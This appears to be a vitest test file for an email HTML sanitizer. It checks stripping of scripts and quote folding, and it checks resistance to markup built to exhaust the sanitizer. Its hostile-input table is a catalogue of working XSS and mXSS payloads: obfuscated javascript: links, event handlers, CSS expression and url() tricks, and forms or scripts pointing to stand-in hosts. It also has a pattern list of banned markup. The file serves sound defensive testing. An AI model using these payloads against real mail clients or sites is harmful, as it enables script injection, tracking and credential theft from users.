import { DomUtils, parseDocument } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { MAX_HTML_NESTING } from './limit-nesting.ts';
import { sanitizeMailHtml } from './sanitize-mail-html.ts';

const BANNED = [
  /<script/i, /javascript:/i, /vbscript:/i, /url\(/i, /@import/i, /expression\(/i,
  /<meta/i, /<base/i, /<link/i, /<style/i, /<form/i, /<input/i, /<iframe/i, /<object/i, /<embed/i,
  /<svg/i, /<math/i, /<template/i, /<noscript/i, /srcset/i, /<!--/, /<!doctype/i, /<html/i, /<head/i, /<body/i,
];
const DATA_IMAGE = /^data:image\/(?:png|jpe?g|gif|webp)[;,]/i;

/** Everything wrong with sanitized output, read back with a real HTML parser as well as by pattern. */
function problems(html: string, remoteImages = false): string[] {
  const found = BANNED.filter((re) => re.test(html)).map((re) => `matches ${re}`);
  // Handlers are looked for in tags with attribute values blanked: an escaped
  // title="&quot; onmouseover=&quot;…" is text, not a handler.
  for (const tag of html.match(/<[^>]*>/g) ?? []) {
    if (/\son[a-z]+\s*=/i.test(tag.replace(/="[^"]*"/g, '=""'))) found.push(`handler in ${tag}`);
  }
  for (const el of DomUtils.getElementsByTagName(() => true, parseDocument(html).children, true)) {
    for (const [name, value] of Object.entries(el.attribs)) {
      const where = `<${el.name} ${name}="${value}">`;
      if (name.startsWith('on')) found.push(`handler ${where}`);
      if (['id', 'srcset', 'background', 'poster', 'action', 'formaction', 'data', 'ping'].includes(name)) found.push(`attribute ${where}`);
      if (name === 'class' && !(el.name === 'details' && value === 'pd-quote')) found.push(`class ${where}`);
      if (name === 'href' && !/^(?:https?:\/\/|mailto:|tel:)/i.test(value)) found.push(`href ${where}`);
      if (name === 'src' && !(el.name === 'img' && (DATA_IMAGE.test(value) || (remoteImages && /^https?:\/\//i.test(value))))) found.push(`src ${where}`);
      if (name === 'style' && /url|expression|import|behavior|binding|\\|\/\*|position/i.test(value)) found.push(`style ${where}`);
      // only a link may name another host; an image only when allowed to
      const remote = /(?:^|[\s'"(=])(?:https?:)?\/\//i.test(value);
      if (remote && name !== 'href' && !(remoteImages && el.name === 'img' && name === 'src')) found.push(`remote ${where}`);
    }
    if (el.name === 'a' && (el.attribs.target !== '_blank' || el.attribs.rel !== 'noopener noreferrer nofollow')) found.push(`link target ${el.attribs.target} rel ${el.attribs.rel}`);
  }
  return found;
}

const HANDLERS = [
  'onclick', 'onerror', 'onload', 'onmouseover', 'onfocus', 'onblur', 'onanimationstart', 'ontransitionend', 'ontoggle',
  'onpointerenter', 'onbegin', 'onwheel', 'onbeforetoggle', 'onauxclick', 'oncontentvisibilityautostatechange', 'onsearch',
];

// [name, input, text that must survive (or '')]
const hostile: Array<[string, string, string]> = [
  ['script', '<p>hi</p><script>alert(1)</script>', 'hi'],
  ['uppercase script with src', '<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>hi</p>', 'hi'],
  ['split script tag', '<scr<script>ipt>alert(1)</scr</script>ipt><p>hi</p>', 'hi'],
  ['script inside svg', '<svg><script>alert(1)</script></svg><p>hi</p>', 'hi'],
  ['svg onload', '<svg onload=alert(1)><circle r=5 /></svg><p>hi</p>', 'hi'],
  ['svg use with remote href', '<svg><use href="https://evil.example/x.svg#a"/></svg><p>hi</p>', 'hi'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ''],
  ['noscript contents', '<noscript><img src="https://t.example/px.gif"></noscript><p>hi</p>', 'hi'],
  ['math mglyph mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
  ['xmp raw text', '<xmp><img src=x onerror=alert(1)></xmp><p>hi</p>', 'hi'],
  ['textarea raw text', '<textarea><img src=x onerror=alert(1)></textarea><p>hi</p>', 'hi'],
  ['title raw text', '<title><img src=x onerror=alert(1)></title><p>hi</p>', 'hi'],
  ['template', '<template><img src=x onerror=alert(1)></template><p>hi</p>', 'hi'],
  ['img onerror', '<img src=x onerror=alert(1)>', ''],
  ['slash-separated attributes', '<img/src=x/onerror=alert(1)><a/href="javascript:alert(1)">x</a>', ''],
  ['uppercase handler', '<div ONCLICK="alert(1)" OnMouseOver=alert(1)>hi</div>', 'hi'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>s</summary>hi</details>', 'hi'],
  ['body onload', '<html><body onload="alert(1)"><p>hi</p></body></html>', 'hi'],
  ['javascript link', '<a href="javascript:alert(1)">hi</a>', 'hi'],
  ['mixed case javascript', '<a href="JaVaScRiPt:alert(1)">hi</a>', 'hi'],
  ['entity tab inside scheme', '<a href="jav&#x09;ascript:alert(1)">hi</a>', 'hi'],
  ['entity newline inside scheme', '<a href="jav&#x0A;ascript:alert(1)">hi</a>', 'hi'],
  ['literal tab and newline', '<a href="jav\tas\ncript:alert(1)">hi</a>', 'hi'],
  ['decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">hi</a>', 'hi'],
  ['entities without semicolons', '<a href="&#0000106&#0000097vascript:alert(1)">hi</a>', 'hi'],
  ['named colon entity', '<a href="javascript&colon;alert(1)">hi</a>', 'hi'],
  ['leading control characters', '<a href="\u0001 javascript:alert(1)">hi</a>', 'hi'],
  ['vbscript link', '<a href="vbscript:msgbox(1)">hi</a>', 'hi'],
  ['data:text/html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">hi</a>', 'hi'],
  ['data:image link', '<a href="data:image/png;base64,AAAA">hi</a>', 'hi'],
  ['protocol-relative link', '<a href="//evil.example/x">hi</a>', 'hi'],
  ['backslash protocol-relative link', '<a href="/\\evil.example/x">hi</a>', 'hi'],
  ['relative link', '<a href="/api/admin">hi</a>', 'hi'],
  ['javascript img src', '<img src="javascript:alert(1)" alt="a">', ''],
  ['svg data image', '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">', ''],
  ['html data image', '<img src="data:text/html,<script>alert(1)</script>">', ''],
  ['style url()', '<div style="background:url(https://t.example/p.gif)">hi</div>', 'hi'],
  ['style url() entity-encoded', '<div style="background:&#117;rl(https://t.example/p.gif)">hi</div>', 'hi'],
  ['style css escape', '<div style="background:u\\72l(https://t.example/p.gif)">hi</div>', 'hi'],
  ['style expression()', '<p style="width:expression(alert(1))">hi</p>', 'hi'],
  ['style behavior', '<p style="behavior:url(x.htc)">hi</p>', 'hi'],
  ['style -moz-binding', '<p style="-moz-binding:url(https://evil.example/x.xml#x)">hi</p>', 'hi'],
  ['style comment split', '<p style="color:red;wid/**/th:expr/**/ession(alert(1))">hi</p>', 'hi'],
  ['style overlay', '<a href="https://ok.example" style="position:fixed;top:0;left:0;width:100%;height:100%">hi</a>', 'hi'],
  ['style element @import', '<style>@import url(https://evil.example/x.css); body{background:url(x)}</style><p>hi</p>', 'hi'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>hi</p>', 'hi'],
  ['base href', '<base href="https://evil.example/"><a href="x">hi</a>', 'hi'],
  ['form with inputs', '<form action="https://evil.example"><input name=p type=password><button formaction="https://evil.example">go</button></form>', 'go'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>hi</p>', 'hi'],
  ['iframe src', '<iframe src="https://evil.example"></iframe><p>hi</p>', 'hi'],
  ['object', '<object data="https://evil.example/x.swf"><param name=a value=b></object><p>hi</p>', 'hi'],
  ['embed', '<embed src="https://evil.example/x.swf"><p>hi</p>', 'hi'],
  ['applet', '<applet code="X.class"></applet><p>hi</p>', 'hi'],
  ['link stylesheet', '<link rel=stylesheet href="https://evil.example/x.css"><p>hi</p>', 'hi'],
  ['img srcset', '<img srcset="https://t.example/1x.png 1x, https://t.example/2x.png 2x" alt="a">', ''],
  ['background attribute', '<div background="https://t.example/bg.png">hi</div>', 'hi'],
  ['table background', '<table background="https://t.example/bg.png"><tr><td background="//t.example/c.png">hi</td></tr></table>', 'hi'],
  ['body background', '<body background="https://t.example/bg.png"><p>hi</p></body>', 'hi'],
  ['video poster', '<video poster="https://t.example/p.png"><source src="https://t.example/v.mp4"></video><p>hi</p>', 'hi'],
  ['input type=image', '<input type=image src="https://t.example/x.png"><p>hi</p>', 'hi'],
  ['ping and cite', '<a href="https://ok.example" ping="https://t.example/p">hi</a><blockquote cite="https://t.example/c">q</blockquote>', 'hi'],
  ['conditional comment', '<!--[if mso]><script>alert(1)</script><![endif]--><p>hi</p>', 'hi'],
  ['comment', '<p>hi</p><!-- <img src=x onerror=alert(1)> -->', 'hi'],
  ['cdata', '<![CDATA[<script>alert(1)</script>]]><p>hi</p>', 'hi'],
  ['attribute breakout', `<img alt='"><script>alert(1)</script>'><a title="&quot; onmouseover=&quot;alert(1)" href="https://ok.example">hi</a>`, 'hi'],
  ['escaped markup stays text', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>', '&lt;script&gt;'],
  ['id, class and name', '<div id="x" class="evil pd-quote" name="y">hi</div><details class="pd-quote">d</details>', 'hi'],
  ['unterminated attribute', '<p>hi</p><img src="https://t.example/x', 'hi'],
  ['link target override', '<a href="https://ok.example" target="_self" rel="opener">hi</a>', 'hi'],
  ...HANDLERS.map((h): [string, string, string] => [`handler ${h}`, `<div ${h}="alert(1)">hi</div><img src=x ${h}=alert(1)>`, 'hi']),
];

describe('sanitizeMailHtml: hostile input', () => {
  it.each(hostile)('%s', (_name, input, keep) => {
    for (const remoteImages of [false, true]) {
      const { html } = sanitizeMailHtml(input, { remoteImages });
      expect(problems(html, remoteImages), html).toEqual([]);
      if (keep) expect(html).toContain(keep);
    }
  });
});

describe('sanitizeMailHtml: remote images', () => {
  const mail =
    '<img src="http://t.example/a.png" alt="A"><img src="https://t.example/b.png" alt="B">' +
    '<img src="//t.example/c.png"><img src="data:image/png;base64,AAAA" alt="inline">';

  it('blocks and counts remote images, keeping alt text', () => {
    const r = sanitizeMailHtml(mail, { remoteImages: false });
    expect(r.blockedRemote).toBe(3);
    expect(r.html).not.toMatch(/t\.example/);
    expect(r.html).toContain('alt="A"');
    expect(r.html).toContain('src="data:image/png;base64,AAAA"');
  });

  it('keeps them when allowed, protocol-relative as https', () => {
    const r = sanitizeMailHtml(mail, { remoteImages: true });
    expect(r.blockedRemote).toBe(0);
    expect(r.html).toContain('src="http://t.example/a.png"');
    expect(r.html).toContain('src="https://t.example/c.png"');
    expect(problems(r.html, true)).toEqual([]);
  });

  const counted: Array<[string, string, number]> = [
    ['background attributes', '<table background="https://t.example/a"><tr><td background="//t.example/b">x</td></tr></table>', 2],
    ['body background', '<body background="https://t.example/a">x</body>', 1],
    ['style urls', '<div style="background:url(https://t.example/a), url(\'//t.example/b\')">x</div>', 2],
    ['relative background is not remote', '<td background="bg.png">x</td>', 0],
    ['inline data image', '<img src="data:image/gif;base64,R0lGOD">', 0],
    ['nothing remote', '<p>plain</p>', 0],
  ];
  it.each(counted)('counts %s', (_name, input, n) => {
    expect(sanitizeMailHtml(input, { remoteImages: false }).blockedRemote).toBe(n);
    expect(sanitizeMailHtml(input, { remoteImages: true }).blockedRemote).toBe(0);
  });
});

describe('sanitizeMailHtml: cid images', () => {
  const inlineImages = new Map([
    ['<Logo@Example.COM>', 'data:image/png;base64,TE9HTw=='],
    ['chart@example.com', 'https://cdn.example/chart.png'],
    ['evil@example.com', 'javascript:alert(1)'],
  ]);
  const cases: Array<[string, string, string | undefined]> = [
    ['case-insensitive, brackets ignored', '<img src="cid:logo@example.com" alt="logo">', 'data:image/png;base64,TE9HTw=='],
    ['percent-encoded', '<img src="CID:logo%40example.com">', 'data:image/png;base64,TE9HTw=='],
    ['missing part removes the img', '<img src="cid:nope@example.com" alt="gone">', undefined],
    ['non-data value is refused', '<img src="cid:chart@example.com">', undefined],
    ['script value is refused', '<img src="cid:evil@example.com">', undefined],
  ];
  it.each(cases)('%s', (_name, input, src) => {
    const r = sanitizeMailHtml(`<p>x</p>${input}`, { inlineImages });
    expect(r.blockedRemote).toBe(0);
    expect(problems(r.html)).toEqual([]);
    if (src) expect(r.html).toContain(`src="${src}"`);
    else expect(r.html).toBe('<p>x</p>');
  });
});

describe('sanitizeMailHtml: quoted history', () => {
  const details = (html: string) => html.match(/<details/g)?.length ?? 0;
  const cases: Array<[string, string, string, string]> = [
    // [name, input, text before the quote, text inside it]
    ['blockquote type=cite, nested once', '<p>reply</p><blockquote type="cite">old<blockquote type="cite">older</blockquote></blockquote>', 'reply', 'older'],
    ['Gmail', '<div>reply</div><div class="gmail_quote gmail_quote_container"><div class="gmail_attr">On Mon, Ann wrote:</div><blockquote class="gmail_quote">old</blockquote></div>', 'reply', 'On Mon, Ann wrote:'],
    ['Outlook header and what follows', '<p>reply</p><hr><div id="divRplyFwdMsg"><b>From:</b> Ann</div><div>old</div><p>older</p>', 'reply', 'older'],
    ['Thunderbird prefix and its blockquote', '<p>reply</p><div class="moz-cite-prefix">On Mon, Ann wrote:<br></div><blockquote type="cite">old</blockquote>', 'reply', 'old'],
    ['Apple Mail', '<div>reply<br><blockquote type="cite"><div>On Mon, Ann wrote:</div><blockquote type="cite">older</blockquote></blockquote></div>', 'reply', 'older'],
  ];
  it.each(cases)('%s', (_name, input, before, inside) => {
    const { html } = sanitizeMailHtml(input, {});
    expect(details(html)).toBe(1);
    expect(problems(html)).toEqual([]);
    const open = html.indexOf('<details class="pd-quote"><summary>…</summary>');
    expect(open).toBeGreaterThan(html.indexOf(before));
    expect(html.indexOf(inside)).toBeGreaterThan(open);
    expect(html.indexOf(inside)).toBeLessThan(html.lastIndexOf('</details>'));
  });

  it('takes a custom, escaped label', () => {
    const { html } = sanitizeMailHtml('<blockquote type="cite">q</blockquote>', { quoteLabel: '<b>Show quoted text</b>' });
    expect(html).toBe('<details class="pd-quote"><summary>&lt;b&gt;Show quoted text&lt;/b&gt;</summary><blockquote>q</blockquote></details>');
  });

  it('leaves a plain blockquote alone', () => {
    expect(sanitizeMailHtml('<blockquote>said</blockquote>', {}).html).toBe('<blockquote>said</blockquote>');
  });

  it('wraps sibling quotes separately, never nested', () => {
    const { html } = sanitizeMailHtml('<blockquote type="cite">a</blockquote><p>b</p><blockquote type="cite">c</blockquote>', {});
    expect(details(html)).toBe(2);
    expect(html).not.toMatch(/<details[^]*<details[^]*<\/details>[^]*<\/details>/);
  });
});

describe('sanitizeMailHtml: legitimate mail', () => {
  const newsletter = `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>Spring sale</title>
<style>body{margin:0} .btn{background:#e00}</style><!--[if mso]><style>table{border-collapse:collapse}</style><![endif]--></head>
<body bgcolor="#f4f4f4" style="margin:0;padding:0">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f4f4f4"><tr><td align="center" valign="top">
<table width="600" class="container" style="max-width:600px;background-color:#ffffff;border:1px solid #dddddd;border-collapse:collapse">
<tr><td style="padding:24px 32px;font-family:'Helvetica Neue', Arial, sans-serif;font-size:16px;line-height:24px;color:#333333">
<h1 style="margin:0 0 12px;font-size:24px;font-weight:bold;text-align:center">Spring sale</h1>
<p><font color="#cc0000" face="Arial">Up to 50% off</font> <span style="display:inline-block;vertical-align:middle;white-space:nowrap">this week</span></p>
<ul style="list-style-type:square"><li>Shoes</li><li>Hats</li></ul>
<a href="https://shop.example/sale?utm_source=mail&amp;id=1" style="color:#ffffff;background-color:#e00000;padding:10px 20px;text-decoration:none;display:inline-block;border-radius:4px">Shop now</a>
<img src="https://cdn.shop.example/hero.jpg" width="536" height="200" alt="Hero" style="display:block;width:100%;height:auto;border:0">
<p style="font-size:12px;color:#999">Questions? <a href="mailto:help@shop.example">Write to us</a> or call <a href="tel:+15550100">555-0100</a>.</p>
</td></tr></table></td></tr></table></body></html>`;

  it('keeps tables, colours, layout styles and links', () => {
    const r = sanitizeMailHtml(newsletter, {});
    expect(problems(r.html)).toEqual([]);
    expect(r.blockedRemote).toBe(1);
    for (const kept of [
      '<table width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f4f4f4">',
      '<td align="center" valign="top">',
      'style="max-width:600px;background-color:#ffffff;border:1px solid #dddddd;border-collapse:collapse"',
      "font-family:'Helvetica Neue', Arial, sans-serif",
      '<font color="#cc0000" face="Arial">',
      'display:inline-block;vertical-align:middle;white-space:nowrap',
      '<ul style="list-style-type:square">',
      'href="https://shop.example/sale?utm_source=mail&amp;id=1"',
      'border-radius:4px',
      'alt="Hero"',
      'href="mailto:help@shop.example"',
      'href="tel:+15550100"',
    ]) expect(r.html).toContain(kept);
    expect(r.html).not.toMatch(/Spring sale<\/title>|\.btn|border-collapse:collapse}/);
    expect(r.html.trimStart().startsWith('<table')).toBe(true);
  });

  it('shows the hero image when remote images are on', () => {
    const r = sanitizeMailHtml(newsletter, { remoteImages: true });
    expect(r.html).toContain('src="https://cdn.shop.example/hero.jpg"');
    expect(problems(r.html, true)).toEqual([]);
  });

  it('filters inline styles property by property', () => {
    const { html } = sanitizeMailHtml(
      '<p style="color:rgb(1, 2, 3);position:absolute;float:left;display:flex;margin:0 auto;font-size:14px;z-index:9">x</p>',
      {},
    );
    expect(html).toBe('<p style="color:rgb(1, 2, 3);margin:0 auto;font-size:14px">x</p>');
  });

  it('unwraps the document and keeps the body', () => {
    expect(sanitizeMailHtml('<!DOCTYPE html><html><head><title>T</title></head><body><p>x</p></body></html>', {}).html).toBe('<p>x</p>');
  });
});

// Markup built to cost time out of proportion to its size. Each of these took
// from seconds to hours before (nesting and sibling splices in the tree pass,
// backtracking patterns); the results are checked, the time is not.
describe('sanitizeMailHtml: markup built to exhaust it', () => {
  it('flattens nesting past the limit instead of recursing', () => {
    const { html } = sanitizeMailHtml('<div>'.repeat(200_000) + 'deep' + '</div>'.repeat(200_000) + '<p>after</p>');
    expect(html).toBe('<div>'.repeat(MAX_HTML_NESTING) + 'deep' + '</div>'.repeat(MAX_HTML_NESTING) + '<p>after</p>');
  });

  it('finds quoted history under elements nested near the limit', () => {
    const { html } = sanitizeMailHtml('<div>'.repeat(MAX_HTML_NESTING - 1) + '<p>reply</p><blockquote type="cite">old</blockquote>');
    expect(html).toContain('<p>reply</p><details class="pd-quote"><summary>…</summary><blockquote>old</blockquote></details>');
  });

  it('wraps and drops 40,000 siblings in one pass', () => {
    const quotes = sanitizeMailHtml('<p>x</p><!-- c --><script>1</script>'.repeat(20_000) + '<blockquote type="cite">q</blockquote>'.repeat(20_000)).html;
    expect(quotes.match(/<details class="pd-quote">/g)?.length).toBe(20_000);
    expect(quotes.match(/<p>x<\/p>/g)?.length).toBe(20_000);
    expect(quotes).not.toMatch(/<script|<!--/);
  });

  const values: Array<[string, string, string]> = [
    ['a border of many words that fails at its end', `<p style="border:${' a'.repeat(50_000)} !">x</p>`, '<p>x</p>'],
    ['a border with words and colour functions', '<p style="border:1px solid rgb(1, 2, 3)">x</p>', '<p style="border:1px solid rgb(1, 2, 3)">x</p>'],
    ['a length of 100,000 digits that fails at its end', `<p style="width:${'1'.repeat(100_000)}x">x</p>`, '<p>x</p>'],
    ['a link with 100,000 spaces inside', `<a href="https://x.example/${' '.repeat(100_000)}y">x</a>`, `<a href="https://x.example/${' '.repeat(100_000)}y" target="_blank" rel="noopener noreferrer nofollow">x</a>`],
    ['a link with 100,000 spaces around it', `<a href="${' '.repeat(100_000)}https://x.example/${' '.repeat(100_000)}">x</a>`, '<a href="https://x.example/" target="_blank" rel="noopener noreferrer nofollow">x</a>'],
  ];
  it.each(values)('%s', (_name, input, expected) => {
    expect(sanitizeMailHtml(input).html).toBe(expected);
  });
});
